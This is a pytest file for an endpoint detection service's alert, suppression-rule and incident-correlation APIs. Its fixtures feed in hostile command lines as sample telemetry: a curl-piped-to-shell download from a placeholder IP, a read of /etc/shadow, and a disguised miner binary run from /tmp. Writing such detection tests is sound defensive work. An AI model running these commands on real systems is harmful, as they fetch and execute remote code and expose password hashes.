"""The analyst's workflow: update alerts with history, suppress noise, work incidents."""

from __future__ import annotations

from typing import Any

import httpx

from tests.support import VigilServer, enroll_raw, post_batch, process_event

CURL_SH = "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'"
SHADOW = "cat /etc/shadow"


def _device(server: VigilServer, name: str) -> dict[str, str]:
    return dict(enroll_raw(server, server.onboarding_package()["token"], name).json())


def _raise(server: VigilServer, dev: dict[str, str], seq: int, cmd: str, ts: str, **cols: Any) -> None:
    if cmd == SHADOW:
        cols = {"FileName": "cat", "FolderPath": "/usr/bin/cat", **cols}
    ev = process_event(dev["device_id"], seq, ProcessCommandLine=cmd, Timestamp=ts, **cols)
    assert post_batch(server, dev["credential"], [ev]).status_code == 200


def _alerts(c: httpx.Client) -> list[dict[str, Any]]:
    return list(c.get("/api/alerts").json()["value"])


def test_patch_alert_records_history_and_validates(sqlite_server: VigilServer) -> None:
    server = sqlite_server
    dev = _device(server, "web-01")
    _raise(server, dev, 1, CURL_SH, "2026-11-28T09:00:00Z")
    with server.client(server.admin_token()) as c:
        a = _alerts(c)[0]
        r = c.patch(f"/api/alerts/{a['id']}", json={
            "status": "Resolved", "assignedTo": "analyst@example.org", "classification": "TruePositive",
            "determination": "SecurityTesting", "comment": "red team exercise",
        })
        assert r.status_code == 200, r.text
        got = r.json()
        assert got["status"] == "Resolved" and got["resolvedTime"] is not None
        assert got["assignedTo"] == "analyst@example.org"
        texts = [(x["kind"], x["comment"]) for x in got["comments"]]
        assert ("Comment", "red team exercise") in texts
        assert ("History", "status: New → Resolved") in texts
        assert sum(k == "History" for k, _ in texts) == 4
        bad = c.patch(f"/api/alerts/{a['id']}", json={"status": "Closed"})
        assert bad.status_code == 422 and bad.json()["field"] == "status"
        assert c.patch(f"/api/alerts/{a['id']}", json={"colour": "red"}).status_code == 422
        assert c.patch("/api/alerts/va-missing", json={"status": "New"}).status_code == 404
        # Re-opening clears the resolved time.
        assert c.patch(f"/api/alerts/{a['id']}", json={"status": "InProgress"}).json()["resolvedTime"] is None


def test_suppression_hides_or_resolves_only_new_matching_alerts(sqlite_server: VigilServer) -> None:
    server = sqlite_server
    dev = _device(server, "build-01")
    _raise(server, dev, 1, SHADOW, "2026-11-28T08:00:00Z")
    with server.client(server.admin_token()) as c:
        before = _alerts(c)
        assert len(before) == 1
        title = before[0]["title"]
        r = c.post("/api/suppressionRules", json={
            "alertTitle": title, "scope": "Device", "machineId": dev["device_id"], "action": "Hide",
            "conditions": {"CommandLine": "cat /etc/shad*"}, "comment": "backup job reads shadow",
        })
        assert r.status_code == 201, r.text
        rule = r.json()
        bad = c.post("/api/suppressionRules", json={"alertTitle": title, "conditions": {"Ip": "10.*"},
                                                    "comment": "x"})
        assert bad.status_code == 422 and bad.json()["field"] == "conditions.Ip"
        # The existing alert is untouched; a new one (past the dedup window) is hidden from the API.
        _raise(server, dev, 2, SHADOW, "2026-11-28T11:00:00Z")
        alerts = _alerts(c)
        assert [a["id"] for a in alerts] == [before[0]["id"]]
        rules = c.get("/api/suppressionRules").json()
        assert rules["@odata.context"] == "/api/$metadata#SuppressionRules" and rules["value"][0]["hits"] == 1
        # Disabled, the rule stops applying.
        assert c.patch(f"/api/suppressionRules/{rule['id']}", json={"enabled": False}).json()["enabled"] is False
        _raise(server, dev, 3, SHADOW, "2026-11-28T14:00:00Z")
        assert len(_alerts(c)) == 2
        # A Resolve rule keeps the alert visible but resolved.
        c.post("/api/suppressionRules", json={"alertTitle": title, "action": "Resolve", "comment": "known",
                                              "conditions": {"FileName": "cat"}})
        _raise(server, dev, 4, SHADOW, "2026-11-28T17:00:00Z")
        newest = _alerts(c)[0]
        assert newest["status"] == "Resolved"
        assert c.delete(f"/api/suppressionRules/{rule['id']}").status_code == 204
        assert c.delete(f"/api/suppressionRules/{rule['id']}").status_code == 404


def test_alerts_correlate_into_incidents_and_can_be_merged_and_split(server: VigilServer) -> None:
    a, b = _device(server, "web-01"), _device(server, "db-01")
    _raise(server, a, 1, CURL_SH, "2026-11-28T09:00:00Z")
    _raise(server, a, 2, SHADOW, "2026-11-28T09:30:00Z")  # same device, within the window
    _raise(server, b, 1, SHADOW, "2026-11-28T09:40:00Z")  # other device, nothing shared
    with server.client(server.admin_token()) as c:
        listed = c.get("/api/incidents").json()
        assert listed["@odata.context"] == "/api/$metadata#Incidents"
        incidents = listed["value"]
        assert len(incidents) == 2
        by_device = {tuple(i["machineIds"]): i for i in incidents}
        web = c.get(f"/api/incidents/{by_device[(a['device_id'],)]['incidentId']}").json()
        assert len(web["alerts"]) == 2
        assert web["incidentName"] == "Multi-stage incident on web-01 involving Credential access & Execution"
        assert web["severity"] == "High"
        db = by_device[(b["device_id"],)]
        merged = c.post(f"/api/incidents/{web['incidentId']}/merge", json={"incidentIds": [db["incidentId"]]})
        assert merged.status_code == 200
        assert len(merged.json()["alerts"]) == 3
        assert "on multiple endpoints" in merged.json()["incidentName"]
        assert c.get(f"/api/incidents/{db['incidentId']}").json()["status"] == "Redirected"
        assert len(c.get("/api/incidents").json()["value"]) == 1
        moved = [x["id"] for x in merged.json()["alerts"] if x["machineId"] == b["device_id"]]
        split = c.post(f"/api/incidents/{web['incidentId']}/split", json={"alertIds": moved})
        assert split.status_code == 200 and [x["id"] for x in split.json()["alerts"]] == moved
        everything = [x["id"] for x in c.get(f"/api/incidents/{web['incidentId']}").json()["alerts"]]
        r = c.post(f"/api/incidents/{web['incidentId']}/split", json={"alertIds": everything})
        assert r.status_code == 422 and "at least one alert" in r.json()["detail"]
        r = c.post(f"/api/incidents/{web['incidentId']}/merge", json={"incidentIds": [999]})
        assert r.status_code == 404 and r.json()["detail"] == "no incident with id 999"
        r = c.post(f"/api/incidents/{web['incidentId']}/merge", json={"incidentIds": [web["incidentId"]]})
        assert r.status_code == 422 and r.json()["field"] == "incidentIds"
        r = c.patch(f"/api/incidents/{web['incidentId']}", json={"status": "Resolved", "assignedTo": "me"})
        assert r.json()["status"] == "Resolved"


def test_a_shared_dropped_file_ties_alerts_on_different_devices(sqlite_server: VigilServer) -> None:
    server = sqlite_server
    a, b, c_ = _device(server, "a"), _device(server, "b"), _device(server, "c")
    payload = {"FileName": "kworkerd", "FolderPath": "/tmp/x/kworkerd", "SHA256": "ab" * 32}
    _raise(server, a, 1, "/tmp/x/kworkerd --pool 198.51.100.7", "2026-11-28T09:00:00Z", **payload)
    _raise(server, b, 1, "/tmp/x/kworkerd --pool 198.51.100.7", "2026-11-28T12:00:00Z", **payload)
    other = {**payload, "SHA256": "cd" * 32}
    _raise(server, c_, 1, "/tmp/x/kworkerd --pool 198.51.100.7", "2026-11-28T12:00:00Z", **other)
    with server.client(server.admin_token()) as c:
        assert len(_alerts(c)) == 3
        incidents = c.get("/api/incidents").json()["value"]
    assert sorted(len(i["machineIds"]) for i in incidents) == [1, 2]
    shared = next(i for i in incidents if len(i["machineIds"]) == 2)
    assert {"kind": "FileHash", "value": "ab" * 32} in shared["entities"]
